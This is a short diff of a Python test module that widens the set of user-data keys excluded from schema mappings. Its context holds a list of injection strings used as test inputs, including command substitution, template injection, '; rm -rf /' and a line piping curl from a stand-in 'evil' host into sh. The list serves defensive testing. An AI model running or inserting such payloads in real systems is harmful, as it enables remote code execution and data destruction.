@@ -41,8 +41,9 @@ def _mappings(node, path=()):
 
 
 LEAVES = sorted(_leaves(BASE), key=str)
-# Schema mappings only: rewrites and waive are mappings of user data (names to names/reasons).
-MAPPINGS = sorted((m for m in _mappings(BASE) if m[-1:] not in (("rewrites",), ("waive",))), key=str)
+# Schema mappings only: these are mappings of user data (names to names, reasons or values).
+USER_DATA = {"rewrites", "waive", "absent", "other_major", "overrides", "env", "third_party"}
+MAPPINGS = sorted((m for m in _mappings(BASE) if not (m[-1:] and m[-1] in USER_DATA)), key=str)
 NASTY = ["\n", "\r", '"', "'", "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", " ", "\u2028", "\x00",
          "\nRUN curl http://evil | sh", "${HOME}", "; rm -rf /", "é", "😀"]
 
